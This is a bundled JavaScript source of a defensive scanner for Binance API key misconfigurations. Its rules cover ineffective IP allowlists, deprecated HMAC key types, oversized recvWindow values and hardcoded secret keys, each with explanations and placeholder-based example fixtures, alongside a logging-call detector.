/** `s := client.NewService()`, and then `s.Status("1")` in the same block. */
function stepsAfter(call, { reading, document: { text } }, mappings) {
	const name = holdersIn(reading)(call)?.path.at(-1);
	if (name === void 0 || /^\d*$/.test(name)) return [];
	const rest = text.slice(call.span.end, call.span.end + longestCall);
	return mappings(name, call.span.end + (/\n\}/.exec(rest)?.index ?? rest.length));
}
/** `AddIpRestrictionParams::builder(` */
function isOfParams({ callee }) {
	return /^(?:builder|new)$/.test(folded(callee.at(-1) ?? "")) && /params$/.test(folded(callee.at(-2) ?? ""));
}
/** What is called; of what makes the arguments of a call, that. */
function methodOf(call) {
	const last = folded(call.callee.at(-1) ?? "");
	return (isOfParams(call) ? folded(call.callee.at(-2) ?? "").replace(/params$/, "") : void 0) ?? last.replace(/(?:async|withhttpinfo)$/, "");
}
/** `"1".to_string()` is the text. */
function literalAt({ value, span }, text) {
	const word = /^"(\w{1,20})"\.(?:to_string|into|to_owned)\(\)$/.exec(text.slice(span.start, Math.min(span.end, span.start + 60)))?.[1];
	return word === void 0 ? value : {
		kind: "text",
		text: word,
		pieces: []
	};
}
const mostArguments = 300;
const longestCall = 4e3;
/** Whether something is handed over after the path that the document doesn’t show. */
function hasMore(call, { start }, mappings) {
	return call?.args.slice(0, mostArguments).some(({ path, value, span }) => span.start > start && path.length === 1 && /^\d+$/.test(path[0] ?? "") && value.kind === "ref" && mappings(value.path.at(-1) ?? "", span.start).length === 0) ?? false;
}
// ../engine/dist/rules/ip-list-invalid.js
/** IP lists that do not restrict a key as they seem to: entries that Binance never sees or does not take. */
/** The margin key endpoint answers with a list that begins so, “without extra meaning”. */
const placeholderFirst = /^0\.0\.0\.0$/;
/** `isSample`: a template has an address of documentation where the reader’s own goes. */
function* faultsIn({ entries, span, called, length }, isSample) {
	const seen = /* @__PURE__ */ new Set();
	for (const [index, { text, span: at }] of entries.entries()) {
		const fault = index === 0 && entries.length > 1 && placeholderFirst.test(text) && /(?:^|\.)ip$/.test(called) || isSample && isOfDocumentation(text) ? void 0 : faultOfAddress(text);
		const address = normalAddress(text);
		const told = fault ?? (seen.has(address) ? "there twice" : void 0);
		seen.add(address);
		if (told) yield {
			span: at,
			name: `${called} ${address}`,
			message: `An entry of ${called} is ${told}`
		};
	}
	const count = String(entries.length);
	if (entries.length > 30) yield {
		span,
		name: called,
		message: `${called} has ${count} addresses; Binance takes ${String(30)} for one key`
	};
	else if (length > 500) yield {
		span,
		name: called,
		message: `${called} has ${String(length)} characters; Binance takes ${String(500)}`
	};
	else if (entries.length > 20) yield {
		span,
		name: called,
		severity: "low",
		message: `${called} has ${count} addresses; more than ${String(20)} are taken by some endpoints only`
	};
}
const mostLists = 8;
/** The lists that code asks Binance to give to a key. */
function* requestedLists(subject) {
	const { text } = subject.document;
	if (isSdkSource(text)) return;
	for (const { given, kind, what, clues } of keyRequestsIn(subject)) {
		if (kind === "list") continue;
		const lists = given.filter(({ name }) => listName.test(name)).slice(0, mostLists);
		const all = lists.flatMap(({ value, span }) => entriesGiven(value, span, text));
		const entries = all.filter(({ span: { start } }, index) => !all.slice(0, index).some(({ span: one }) => one.start <= start && start < one.end));
		const [first] = lists;
		if (!first || !entries.some((one) => isAddressLike(one.text))) continue;
		const length = first.value.kind === "text" ? first.value.text.length : 0;
		yield {
			called: `the IP list of ${what}`,
			span: first.span,
			state: "on",
			entries,
			length,
			clues
		};
	}
}
const ipListInvalid = {
	id: "ip-list-invalid",
	title: "IP list that does not restrict",
	severity: "medium",
	finds: "Entries in a key’s IP list that Binance never sees or does not take: private, loopback, link-local, CGNAT, documentation and any-address entries, ranges (CIDR), host names, duplicates; lists of more than 30 addresses (more than 20: low) or 500 characters.",
	why: "Binance compares the public address that a request comes from. A private one never matches, so the bot is locked out until somebody, in a hurry, opens the key to everyone. An any-address entry or a wide range restricts nothing while the configuration looks as if it did.",
	advice: ["Enter the public address that the bot’s requests leave from, one by one; ask the machine itself which one that is.", "Take addresses out that no machine of yours has any more: the provider gives them to the next customer."],
	references: ["https://developers.binance.com/docs/sub_account/api-management/Add-IP-Restriction-for-Sub-Account-API-key", "https://www.iana.org/assignments/iana-ipv4-special-registry/iana-ipv4-special-registry.xhtml"],
	*look(subject) {
		if (subject.isProse) return;
		const { sample } = toldByPath(subject.document.path);
		const seen = /* @__PURE__ */ new Set();
		for (const key of keysIn(subject)) for (const list of key.ips) for (const risk of faultsIn(list, sample)) {
			seen.add(risk.span.start);
			yield {
				...risk,
				...toldOf(key, subject)
			};
		}
		for (const { clues, ...list } of requestedLists(subject)) for (const risk of faultsIn(list, sample)) {
			if (seen.has(risk.span.start)) continue;
			seen.add(risk.span.start);
			yield {
				...risk,
				clues
			};
		}
	},
	examples: {
		leaks: [
			{
				path: "binance.yml",
				text: "key:\n  permissions: [read, trade]\n  ip_whitelist:\n    - 54.168.210.7\n    - «192.168.1.40»\n    - «54.168.210.0/24»"
			},
			{
				path: ".env",
				text: "BINANCE_IP_WHITELIST=18.182.66.31,«127.0.0.1»,«18.182.66.31»"
			},
			{
				path: "keys.go",
				text: "import \"github.com/adshao/go-binance/v2\"\nvar key = Key{TradeOnly: true, IPWhitelist: []string{«\"0.0.0.0\"»}}"
			},
			{
				path: "binance.json",
				text: "{ \"apiKey\": \"from-vault\", \"trustedIps\": [\"52.40.125.9\", «\"bot.example-trading.net\"», «\"::/0\"»] }"
			},
			{
				path: "keys.rs",
				text: "use binance_sdk::wallet;\nKey { exchange: Binance, ip_whitelist: vec![«\"10.1.1.1\"».into(), \"34.1.2.3\".into()] }"
			},
			{
				path: "binance.properties",
				text: "binance.api.trusted.ips=52.40.125.9,«172.16.3.4»"
			},
			{
				path: "binance.yml",
				text: "key:\n  permissions: [read, trade]\n  ip_whitelist:\n    - ip: 54.168.210.7\n      until: 2026-12-01\n    - ip: «10.0.0.2»"
			},
			{
				path: "binance.xml",
				text: "<binance><apiKey>from-vault</apiKey><ipWhitelist><ip>54.168.210.7</ip><ip>«10.0.0.3»</ip></ipWhitelist></binance>"
			},
			{
				path: "binance.rb",
				text: "Binance.configure { |c| c.ip_whitelist = %w[34.1.2.3 «10.0.0.5»] }"
			},
			{
				path: "binance.json",
				text: "{ \"apiKey\": \"from-vault\", \"ipAddress\": \"52.40.125.9,«8.8.8.8/32»\", \"ipRestrict\": true }"
			},
			{
				path: "keys.ts",
				text: "import { MarginTrading } from '@binance/margin-trading';\nconst client = new MarginTrading({ configurationRestAPI });\nawait client.restAPI.createSpecialKey({ apiName: 'a', ip: '51.15.204.18,«172.31.4.2»' });"
			},
			{
				path: "Keys.java",
				text: "import com.binance.connector.client.sub_account.rest.api.SubAccountRestApi;\nclass Keys { void bind(SubAccountRestApi api) {\n  api.addIpRestrictionForSubAccountApiKey(new AddIpRestrictionForSubAccountApiKeyRequest()\n      .status(\"2\")\n      .ipAddress(«\"192.168.0.7\"»));\n} }"
			},
			{
				path: "keys.sh",
				text: "curl -X POST https://api.binance.com/sapi/v1/margin/apiKey -H \"X-MBX-APIKEY: $K\" -d \"apiName=x&ip=5.9.1.2,«10.0.0.2»\""
			},
			{
				path: "binance.xml",
				text: "<binance><key><trade>true</trade><trustedIps><ip>5.161.77.20</ip></trustedIps></key><key><trade>true</trade><trustedIps><ip>5.161.77.20</ip><ip>«10.0.0.1»</ip></trustedIps></key></binance>"
			},
			{
				path: "keys.rb",
				text: "BINANCE_KEYS = {\n  view: { key: ENV['A'], trusted_ips: [«'0.0.0.0'»] },\n}.freeze"
			}
		],
		clean: [
			{
				path: "config.php",
				text: "<?php return ['telescope' => ['allowed_ips' => ['127.0.0.1']], 'binance' => ['key' => env('K'), 'ip_whitelist' => ['178.62.19.204']]];"
			},
			{
				path: "bot.rb",
				text: "require 'binance'\nSIDEKIQ_ALLOWED_IPS = %w[127.0.0.1 10.0.0.0/8].freeze"
			},
			{
				path: "prod.exs",
				text: "import Config\nconfig :desk, :live_dashboard, allowed_ips: [\"127.0.0.1\"]\nconfig :desk, :binance, key: key, ip_whitelist: [\"5.161.77.20\"]"
			},
			{
				path: "binance.yml",
				text: "key:\n  permissions: [read, trade]\n  ip_whitelist: [54.168.210.7]"
			},
			{
				path: "binance.yml",
				text: "web:\n  allowed_ips: [127.0.0.1, 10.0.0.0/8]"
			},
			{
				path: "binance.yml",
				text: "nginx:\n  ip_whitelist:\n    - 192.168.0.0/16"
			},
			{
				path: "nodes.yml",
				text: "binance_nodes:\n  - name: a\n    ip: 10.0.0.3\n  - { ip: 10.0.0.4, port: 6379 }"
			},
			{
				path: "wg.conf",
				text: "# the bot for Binance\n[Peer]\nAllowedIPs = 0.0.0.0/0"
			},
			{
				path: "server.py",
				text: "from binance import Client\nALLOWED_IPS = [\"127.0.0.1\"]\nif request.remote_addr not in ALLOWED_IPS:\n    abort(403)"
			},
			{
				path: "binance.example.yml",
				text: "key:\n  permissions: [read, trade]\n  ip_whitelist: [203.0.113.10]"
			},
			{
				path: "README.md",
				text: "```json\n{ \"binance\": { \"ipList\": [\"192.168.1.1\"] } }\n```"
			},
			{
				path: "margin.json",
				text: "{ \"apiName\": \"binance\", \"apiKey\": \"from-vault\", \"ip\": \"0.0.0.0,52.40.125.9\" }"
			}
		],
		missed: []
	}
};
// ../engine/dist/rules/weak-key-type.js
/** HMAC where Binance recommends Ed25519. Settings only: how code signs is nobody’s fault. */
const weakKeyType = {
	id: "weak-key-type",
	title: "HMAC key where Ed25519 is recommended",
	severity: "info",
	finds: "A setting that makes or uses an HMAC key: `key_type: HMAC`.",
	why: "Binance has declared HMAC keys deprecated and recommends Ed25519. The secret of an HMAC key is known to both sides and travels when the key is made; the private key of an Ed25519 pair never leaves the machine that made it.",
	advice: ["Make an Ed25519 key pair on the machine that runs the bot, register its public key with Binance, and delete the HMAC key.", "Encrypt the private key with a passphrase where the SDK can open it."],
	references: ["https://developers.binance.com/docs/binance-spot-api-docs/faqs/api_key_types"],
	*look(subject) {
		for (const { weakTypes } of keysIn(subject)) for (const { called, span } of weakTypes) yield {
			span,
			name: called,
			message: `${called} is HMAC, which Binance calls deprecated; Ed25519 is recommended`,
			...subject.isProse ? { confidence: "possible" } : {}
		};
	},
	examples: {
		leaks: [
			{
				path: "binance.yml",
				text: "binance:\n  main:\n    key_type: «hmac»"
			},
			{
				path: "application.properties",
				text: "binance.key-type=«HMAC»"
			},
			{
				path: "main.go",
				text: "import \"github.com/adshao/go-binance/v2\"\nfunc f() { client.KeyType = «\"HMAC\"» }"
			}
		],
		clean: [
			{
				path: "binance.yml",
				text: "key_type: ed25519"
			},
			{
				path: "binance.yml",
				text: "session:\n  jwt:\n    key_type: HMAC"
			},
			{
				path: "binance.ts",
				text: "type Options = { keyType: 'HMAC' | 'RSA' | 'Ed25519' };"
			},
			{
				path: "binance.js",
				text: "const hook = { signature: 'HMAC' };"
			},
			{
				path: "client.go",
				text: "package binance\n\nfunc NewClient(key, secret string) (*Client, error) {\n	return &Client{Key: key, SecretKey: secret, KeyType: \"HMAC\"}, nil\n}"
			}
		],
		missed: []
	}
};
// ../engine/dist/rules/recv-window.js
/** Replay windows: how long after its timestamp a signed request is still taken. Not clocks that are off. */
/** In milliseconds. Source: Binance’s REST API, “Timing security”. */
const mostAllowed = 6e4;
/** `WithRecvWindow(…)`, `put("recvWindow", …)` */
function nameOfArgument({ callee, args }, path) {
	if (path.length !== 1) return void 0;
	if (path[0] === "0") return callee.at(-1);
	const [first] = args;
	return path[0] === "1" && first?.path[0] === "0" && first.value.kind === "text" ? first.value.text.slice(0, 40) : void 0;
}
const setting = /(?:recv|receive)window(?:ms|millis|milliseconds)?$/;
/** `5000 * 60`, `90000u64` */
const product = /^(\d[\d_]{0,15})(?:[lLn]|[iu]\d+)?((?:\s{0,4}\*\s{0,4}\d[\d_]{0,15}){0,6})(?![\w.]*[\w.*/+-])/;
/** `TimeSpan.FromSeconds(120)`, `Duration::from_secs(120)`, `timedelta(seconds=120)`, `120 * time.Second` */
const duration = /^[\w.:]{0,40}?(?:from|of)?_?(milli|second|sec|minute|min)\w{0,12}\(\s{0,4}(\d[\d_]{0,12})\s{0,4}[lL]?\s{0,4}\)|^timedelta\((\w+)=(\d{1,12})\)/i;
/** What stands there; undefined where it is no number. */
function windowAt({ value, span, path }, { document: { text } }) {
	const source = text.slice(span.start, Math.min(text.length, span.start + 120));
	const told = (window, length = 0) => ({
		span: {
			start: span.start,
			end: Math.max(span.end, span.start + length)
		},
		name: path.join("."),
		window
	});
	const factors = product.exec(source);
	if (factors && factors[2] !== "") return told([factors[1], ...factors[2].split("*").slice(1)].reduce((sum, one) => sum * numberIn(one), 1), factors[0].length);
	const time = duration.exec(source);
	if (time) {
		const unit = (time[1] ?? time[3] ?? "").toLowerCase();
		return told(numberIn(time[2] ?? time[4] ?? "") * (unit.startsWith("milli") ? 1 : unit.startsWith("s") ? 1e3 : 6e4), time[0].length);
	}
	const window = numberOf(value) ?? (factors && value.kind !== "list" ? numberIn(factors[1]) : void 0);
	return window === void 0 ? void 0 : told(window);
}
function numberIn(text) {
	return Number(text.trim().replaceAll("_", ""));
}
const nameHas = /rec(?:ei)?ve?[_-]?window/i;
/** `new(o => o.ReceiveWindow = TimeSpan.FromMinutes(10))`: what a function in an argument sets. */
const assigned = /\.(?:recv|receive)_?window\s{0,3}=\s{0,3}(?=[A-Z\d])/gi;
const inQuery = /\brecv_?window(?:=|%3D)(\d[\d_]{0,15})(?![\w.])/gi;
function* windowsIn(subject) {
	const settings = subject.settings.filter((one) => !isOfOthers(one, subject));
	const isXml = subject.reading.language === "xml";
	const named = settings.filter(({ name, call, path }) => setting.test(name) || call && name === "" && setting.test(folded(nameOfArgument(call, path) ?? "")));
	const referred = new Set(named.map(({ value }) => value.kind === "ref" ? value.path.at(-1) : void 0));
	for (const one of named) {
		const window = windowAt(one, subject);
		if (window && (isXml || !isCompared$2(subject.document.text, one.span))) yield window;
	}
	for (const one of settings) {
		if (one.via === "argument" || !referred.has(one.path.at(-1))) continue;
		const window = windowAt(one, subject);
		if (window && !isCompared$2(subject.document.text, one.span)) yield window;
	}
	for (const { part, match, at } of occurrences(subject, assigned)) {
		const { start } = part.source({
			start: at + match[0].length,
			end: at + match[0].length
		});
		const window = windowAt({
			path: ["recvWindow"],
			name: "recvwindow",
			container: 0,
			via: "assign",
			value: { kind: "unknown" },
			span: {
				start,
				end: start
			}
		}, subject);
		if (window) yield window;
	}
	for (const { part, match, at } of occurrences(subject, inQuery)) {
		const digits = match[1];
		const start = at + match[0].length - digits.length;
		yield {
			span: part.source({
				start,
				end: start + digits.length
			}),
			name: "recvWindow",
			window: Number(digits.replaceAll("_", ""))
		};
	}
}
/** Bybit and others have a window of that name too. */
function isOfOthers(setting, subject) {
	if (!nameHas.test(setting.path.join("."))) return false;
	const { binance, exchange } = require_worth_reading.meaningOfPath([...setting.call?.callee ?? [], ...setting.path]);
	const beside = exchangeOf(setting, subject);
	return beside === void 0 ? binance !== "name" && exchange !== void 0 : beside !== "binance";
}
const recvWindow = {
	id: "recv-window",
	title: "Replay window over the maximum",
	severity: "info",
	finds: "A `recvWindow` of more than 60,000 milliseconds, in any SDK, request or configuration.",
	why: "Binance takes a signed request for as long after its timestamp as `recvWindow` says, and whoever records one can send it again in that time. More than 60,000 ms is refused, so the bot fails; 5,000 ms is the default and enough.",
	advice: ["Set `recvWindow` to 5000, or leave it out.", "If requests fail with -1021, synchronise the clock instead of widening the window."],
	references: ["https://developers.binance.com/docs/binance-spot-api-docs/rest-api/endpoint-security-type"],
	*look(subject) {
		const seen = /* @__PURE__ */ new Set();
		for (const { span, name, window } of windowsIn(subject)) {
			if (window <= mostAllowed || seen.has(span.start)) continue;
			seen.add(span.start);
			yield {
				span,
				name,
				message: `A recvWindow of ${String(window)} ms; Binance takes ${String(mostAllowed)} at most`,
				clues: [clue("binance-setting", "recvWindow is a parameter of Binance’s API")]
			};
		}
	},
	examples: {
		leaks: [
			{
				path: "bot.js",
				text: "const Binance = require('node-binance-api');\nconst binance = new Binance().options({ recvWindow: «600000» });"
			},
			{
				path: "config.yml",
				text: "binance:\n  recv_window: «120000»"
			},
			{
				path: ".env",
				text: "BINANCE_RECV_WINDOW=«90000»"
			},
			{
				path: "bot.tf",
				text: "resource \"kubernetes_deployment\" \"bot\" {\n  env {\n    name  = \"BINANCE_RECV_WINDOW\"\n    value = «\"90000\"»\n  }\n}"
			},
			{
				path: "bot.py",
				text: "import binance\nclient.get_account(recvWindow=«60_001»)"
			},
			{
				path: "bot.py",
				text: "import binance\nclient.get_account(recvWindow=«5000 * 60»)"
			},
			{
				path: "main.go",
				text: "package main\nres, err := s.Do(ctx, binance.WithRecvWindow(«90000»))"
			},
			{
				path: "Bot.cs",
				text: "using Binance.Net;\nvar o = new BinanceRestOptions { ReceiveWindow = «TimeSpan.FromSeconds(120)» };"
			},
			{
				path: "cancel.sh",
				text: "q=\"symbol=BTCUSDT&recvWindow=«300000»&timestamp=$(date +%s000)\""
			},
			{
				path: "bot.ts",
				text: "import { MainClient } from 'binance';\nconst LATE = «90000»;\nexport const client = new MainClient({ recvWindow: LATE });"
			},
			{
				path: "config.xml",
				text: "<exchange name=\"binance\"><recvWindow>«90000»</recvWindow></exchange>"
			},
			{
				path: "application.yml",
				text: "binance:\n  recv-window: «90000»"
			},
			{
				path: "compose.yaml",
				text: "services:\n  bot:\n    command: [\"bot\", \"--binance-recv-window=«90000»\"]"
			},
			{
				path: "Make.cs",
				text: "using Binance.Net.Clients;\nclass Make { BinanceRestClient Go() => new(o => o.ReceiveWindow = «TimeSpan.FromMinutes(2)»); }"
			}
		],
		clean: [
			{
				path: "venues.yml",
				text: "binance:\n  recv_window: 5000\nbybit:\n  recv_window: 90000"
			},
			{
				path: "bot.js",
				text: "const binance = require('node-binance-api')().options({ recvWindow: 60000 });"
			},
			{
				path: "config.yml",
				text: "binance:\n  recv_window: 5000"
			},
			{
				path: "bot.py",
				text: "client.get_account(recvWindow=window)"
			},
			{
				path: "bot.js",
				text: "fetch(`https://api.binance.com/api/v3/order?recvWindow=5000&timestamp=${t}`);"
			}
		],
		missed: [{
			path: "bot.py",
			text: "import binance\nclient.get_account(recvWindow=minutes * 60000)",
			because: "what a name is when it runs is not known"
		}]
	}
};
// ../engine/dist/rules/secret-key.js
const secretKey = {
	id: "secret-key",
	title: "Binance secret key",
	severity: "critical",
	finds: "An HMAC secret key of Binance, 64 letters and digits, in any code, configuration, note or encoding. A key whose role cannot be told is reported here too, as high.",
	why: "Whoever has the secret and its API key signs requests as you: orders, transfers, and withdrawals where the key allows them. Keys without the right to withdraw have been drained by trades against the thief’s own orders.",
	advice: [
		"Delete the key in Binance’s API Management now; it stays live until you do, whatever happens to this file.",
		"Look at orders, withdrawals and transfers since it was written here.",
		"Make a new key (Ed25519, with an IP list, only the rights it needs) and read it from the environment or a secret manager.",
		"Then remove it from the code and from git’s history: git keeps what was committed."
	],
	references: ["https://developers.binance.com/docs/binance-spot-api-docs/rest-api/request-security", "https://developers.binance.com/docs/binance-spot-api-docs/faqs/api_key_types"],
	examples: {
		leaks: [
			"BINANCE_API_SECRET=<key64:a>",
			{
				path: "bot.ts",
				text: "import { Spot } from '@binance/connector';\nconst client = new Spot(process.env.KEY, '<key64:a>');"
			},
			{
				path: "bot.py",
				text: "from binance.client import Client\nsecret = \"<key64:a>\"\nclient = Client(os.environ[\"KEY\"], secret)"
			},
			{
				path: "accounts.py",
				text: "from binance.client import Client\nmain = {\"word\": \"<key64:a>\"}\nclient = Client(key, main[\"word\"])"
			},
			{
				path: "main.go",
				text: "import \"github.com/adshao/go-binance/v2\"\n\nvar client = binance.NewClient(os.Getenv(\"KEY\"), \"<key64:a>\")"
			},
			{
				path: "config.json",
				text: "{ \"exchange\": { \"name\": \"binance\", \"secret\": \"<key64:a>\" } }"
			},
			{
				path: "k8s.yaml",
				text: "kind: Secret\ndata:\n  BINANCE_API_SECRET: <key64:a|base64>"
			},
			{
				path: "Bot.java",
				text: "class Bot {\n  static final String BINANCE_SECRET = \"<key64:a[0,32]>\"\n      + \"<key64:a[32,64]>\";\n}"
			},
			{
				path: "bot.php",
				text: "<?php\n$client = new \\Binance\\Spot(['secret' => '<key64:a>']);"
			},
			{
				path: "notes.md",
				text: "## Binance\n\nSecret key: `<key64:a>`"
			},
			{
				path: "lib.rs",
				text: "use binance::api::*;\nlet account: Account = Binance::new(None, Some(\"<key64:a>\".into()));"
			},
			{
				path: "Bot.cs",
				text: "using Binance.Net;\nvar credentials = new BinanceCredentials(key, \"<key64:a>\");"
			},
			{
				path: "bot.rb",
				text: "require 'binance'\nclient = Binance::Spot.new(secret: '<key64:a>')"
			},
			{
				path: "user/config.json",
				text: "{ \"exchanges\": { \"binance\": { \"api-key\": \"env:KEY\", \"api-secret\": \"gAAAAAB<alnum100:a>\" } } }"
			},
			{
				path: "old.js",
				text: "// binance.options({ APISECRET: '<key64:a>' });"
			}
		],
		clean: [
			"BINANCE_API_SECRET=your_api_secret_here",
			"BINANCE_API_SECRET=${{ secrets.BINANCE_API_SECRET }}",
			{
				path: "binance/package.json",
				text: "{ \"integrity\": \"sha384-<base64-64:a>\" }"
			},
			{
				path: "binance.lock",
				text: "binance 1.0 sha256:<hex64:a>"
			},
			{
				path: "bybit.env",
				text: "BYBIT_API_SECRET=<key64:a>"
			},
			{
				path: "binance.pem",
				text: "<pem-public:a>"
			}
		],
		missed: [{
			text: "a = \"<key64:a[0,20]>\"\nb = \"<key64:a[20,64]>\"\nbinance_secret = a + b",
			because: "halves bound to names are only joined at run time"
		}]
	}
};
// ../engine/dist/risks/calls/log-calls.js
/** The logging statements of a program: where each is called, and the tokens that it is given. For code, not for shells. */
/** Functions that print or log, by their own name alone; in lower case. */
const alone = /^(?:print|println|printf|eprintln|eprint|eprintf|pprint|rprint|cprint|log|logger|logging|logf|logmessage|log_message|logdebug|loginfo|logerror|log_info|log_debug|log_error|debug|debugprint|nslog|os_log|puts|var_dump|print_r|var_export|error_log|syslog|dump|dd|ddd|dbg|echo|write_log|writelog|trace|info|warn|console|cat|message|ic|say|printstderr|print_debug|debug_print|log4|alert_log|tlog|slog|outputdebugstring|qdebug|qinfo|qwarning|qcritical)$/;
/** A thing that logs. */
const logs = /^(?:console|.*log|.*logs|.*logger|.*logging|winston|pino|bunyan|log4js|signale|consola|tracing|slog|logrus|glog|klog|zerolog|zap|sugar|sugared|spdlog|timber|nlog|serilog|loguru|structlog|syslog|.*logcat|oslog|debug|trace|tracer|reporter)$/;
/** What things that log are asked to do. */
const levels = /^(?:(?:log|l)?_?(?:info|information|debug|warn|warning|error|err|trace|fatal|panic|critical|crit|exception|notice|verbose|silly|success|log|audit|alert|emergency|severe|fine|config|entry|http|dir|table|group|assert|dpanic|write|writeline|write_line|print|println|printf|put|puts|output|message|msg|send|msgf|[dweivt]|wtf|fail|start|done|note|pending|complete|dump|inspect|emit))(?:f|ln|w|ctx|context|s|async|if|line|event)?$/;
/** Streams that people see, and what writes to them. */
const streams = /^(?:stdout|stderr|out|err|io|console|screen|terminal|click|typer|tqdm|rich|st|streamlit|debug|trace|spinner|ora|host|ui)$/;
const writes = /^(?:write|writeln|writeline|write_line|print|println|printf|format|puts|echo|secho|inspect|write_all|text|update|succeed|markdown|code|json|writelines)$/;
/** Statements without parentheses, by language. */
const statements = {
	ruby: /^(?:puts|p|pp|print|warn|printf|ap)$/,
	php: /^(?:echo|print|dump|dd)$/,
	python: /^print$/,
	hash: /^(?:print|say|puts|printf|warn)$/,
	java: /^(?:println|print|debugPrint)$/,
	dashes: /^print$/
};
/** In the order of the text. */
function* logCallsOf(tokens) {
	const { kind } = tokens;
	const language = tokens.language.name;
	const ends = /* @__PURE__ */ new Map();
	for (let at = 0; at < tokens.length; at += 1) {
		if (kind[at] !== Kind.word || isAccess$1(kind[at - 1]) || !mayLog(tokens, at)) continue;
		const { steps, given, end } = chainAt(tokens, at);
		const streamed = given.length === 0 || given.length === 1 && given[0].range[0] === given[0].range[1] ? shiftedInto(tokens, end, steps, ends) : void 0;
		if (streamed) {
			yield {
				callee: steps.join("::"),
				span: tokens.span(at, end),
				given: [streamed]
			};
			at = streamed[1] - 1;
			continue;
		}
		if (given.length > 0) {
			const first = isBuilder(steps) ? given[0] : given.find(({ upTo }) => isLog(steps.slice(0, upTo), language, tokens, given[0].range));
			if (first) yield {
				callee: steps.slice(0, first.upTo).join("."),
				span: {
					start: tokens.start[at],
					end: tokens.end[first.last]
				},
				given: given.slice(given.indexOf(first)).map(({ range }) => range)
			};
			continue;
		}
		const plain = statements[language];
		const isReceiver = steps.length > 1 && (language === "ruby" || language === "java") && isLog(steps, language);
		if (steps.length === 1 && plain?.test(steps[0]) || isReceiver) {
			const to = endOfStatement(tokens, end, ends);
			if (startsStatement(tokens, at) && to > end && isOperandStart(tokens, end)) yield {
				callee: steps.join("."),
				span: tokens.span(at, end),
				given: [[end, to]]
			};
		}
	}
}
/** Languages in which a statement without parentheses may ask something that logs: `logger.info "…"`. */
const asking = /^(?:ruby|java)$/;
/** Whether a chain of names may be of a call or of a statement that prints. Most are of neither, which their kinds tell. */
function mayLog(tokens, from) {
	const { kind } = tokens;
	let at = from;
	for (let steps = 1;; steps += 1) {
		const next = kind[at + 1];
		if (next === Kind.openParen || next === Kind.openBracket) return true;
		const access = accessAfter(tokens, at + 1);
		if (!isAccess$1(kind[access]) || kind[access + 1] !== Kind.word) break;
		if (steps === maxSteps) return true;
		at = access + 1;
	}
	if ((at === from && tokens.language.name in statements || asking.test(tokens.language.name)) && isOperandStart(tokens, at + 1)) return true;
	return tokens.slice(at + 1) === "<<";
}
/** Where the next step of a chain would be: on the same line, or at the beginning of the next. */
function accessAfter(tokens, at) {
	if (tokens.kind[at] !== Kind.newline) return at;
	const next = tokens.skipNewlines(at, tokens.length);
	return isAccess$1(tokens.kind[next]) ? next : at;
}
const maxSteps = 24;
/** A name without its marks, and without the namespaces of PHP. */
function stepAt(tokens, at) {
	const word = tokens.slice(at);
	const first = word.charCodeAt(0);
	if (first !== 36 && first !== 64 && !word.includes("\\")) return word;
	const name = word.replace(/^[$@\\]+/, "");
	return name.slice(name.lastIndexOf("\\") + 1);
}
/** `log.Info().Str("a", b).Msg("c")` */
function chainAt(tokens, from) {
	const { kind } = tokens;
	const steps = [];
	const given = [];
	let at = from;
	while (steps.length < maxSteps && kind[at] === Kind.word) {
		const step = stepAt(tokens, at);
		steps.push(step);
		let next = at + 1;
		const close = kind[next] === Kind.openParen || step.endsWith("!") && kind[next] === Kind.openBracket ? tokens.close(next) : -1;
		if (close >= 0) {
			given.push({
				upTo: steps.length,
				last: at,
				range: [next + 1, close]
			});
			next = close + 1;
		}
		const access = accessAfter(tokens, next);
		if (!isAccess$1(kind[access]) || kind[access + 1] !== Kind.word) return {
			steps,
			given,
			end: next
		};
		at = access + 1;
	}
	return {
		steps,
		given,
		end: at
	};
}
/** What a step of a chain may be, as bits. */
const Step = {
	alone: 1,
	logs: 2,
	level: 4,
	stream: 8,
	writes: 16,
	plain: 32,
	never: 64
};
/** Steps that say nothing of what they are called on. */
const plainStep = /^(?:this|self|window|global|globalthis|std|app|ctx|cls|core|system|sys|process|rails|android|log4net|fmt)$/;
const neverStep = /^(?:math|np|numpy|torch|tf|blog|catalog|dialog|changelog)$/;
/** A receiver may end in a mark, the last step in another. */
const receiverMark = /[?!]$/;
/** Names come again and again, and there are six patterns to try. */
const knownSteps = /* @__PURE__ */ new Map();
const mostSteps$1 = 4e3;
function bitsOf(step) {
	let bits = knownSteps.get(step);
	if (bits !== void 0) return bits;
	const receiver = step.replace(receiverMark, "").toLowerCase();
	const last = step.replace(/!$/, "").toLowerCase();
	bits = (alone.test(last) ? Step.alone : 0) | (logs.test(receiver) ? Step.logs : 0) | (levels.test(last) ? Step.level : 0) | (streams.test(receiver) ? Step.stream : 0) | (writes.test(last) ? Step.writes : 0) | (plainStep.test(receiver) ? Step.plain : 0) | (neverStep.test(receiver) ? Step.never : 0);
	if (knownSteps.size >= mostSteps$1) knownSteps.clear();
	if (step.length <= longestStep) knownSteps.set(require_worth_reading.flat(step), bits);
	return bits;
}
const longestStep = 40;
function isLog(steps, language, tokens, range) {
	const last = bitsOf(steps.at(-1) ?? "");
	let [own, any, receiver] = [
		0,
		0,
		0
	];
	for (let index = 0; index < steps.length - 1; index += 1) {
		const bits = bitsOf(steps[index]);
		any |= bits;
		if (bits & Step.plain) continue;
		own += 1;
		receiver = bits;
	}
	if (any & Step.never) return false;
	if (own === 0) return isLogAlone(steps, language, tokens, range);
	if (receiver & Step.logs && last & Step.level) return true;
	if (any & Step.logs && last & Step.level && own <= 3) return true;
	return (receiver & Step.stream) !== 0 && (last & Step.writes) !== 0;
}
/** Of a function that is called on nothing, or on what says nothing. */
function isLogAlone(steps, language, tokens, [from, to] = [0, 0]) {
	const name = steps.at(-1) ?? "";
	const last = name.replace(/!$/, "").toLowerCase();
	if (/^fprint/.test(last) && steps.slice(0, -1).some((step) => /^fmt[?!]?$/i.test(step))) return tokens !== void 0 && to > from && /^os$/.test(tokens.slice(from)) && /^Std(?:out|err)$/.test(tokens.slice(from + 2));
	if (language === "c" && /^(?:fprintf|fputs|dprintf)$/.test(last)) {
		if (!tokens) return false;
		for (let at = from; at < Math.min(to, from + 60); at += 1) if (/^std(?:err|out)$/.test(tokens.slice(at))) return true;
		return false;
	}
	if (last === "p" || last === "pp" || last === "ap") return language === "ruby";
	if (last === "cat" || last === "message") return language === "hash";
	if (last === "dump" && language === "python") return false;
	return (bitsOf(name) & Step.alone) !== 0;
}
/** zerolog and zap chain: `log.Info().Str("k", v).Msg("m")`. */
function isBuilder(steps) {
	return steps.length > 2 && steps.slice(0, 2).some((step) => logs.test(step.toLowerCase())) && steps.some((step) => levels.test(step.toLowerCase()));
}
